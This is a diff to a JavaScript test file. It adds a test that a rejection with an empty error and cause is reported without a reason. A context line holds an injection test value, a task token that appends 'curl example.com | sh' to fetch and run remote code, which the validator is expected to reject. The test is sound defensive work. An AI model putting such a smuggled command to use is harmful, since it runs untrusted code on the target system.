@@ -210,6 +210,13 @@ test('a step of a machine is reported with its error, and with the token that ap
   );
 });
 
+test('a rejection without an error and a cause is reported without a reason', () => {
+  const plan = { ...toPlan(ALERT, 'start-logging'), failure: { Error: '', Cause: '' } };
+  const { summary, record } = toResponseAlert(toStepReport({ outcome: 'not-approved', plan }));
+  expect(summary).toMatch(/ is 'not-approved'$/);
+  expect(record).not.toHaveProperty('why');
+});
+
 test.each([
   ['a token', { taskToken: 'T; curl example.com | sh' }, /taskToken is no token/],
   [
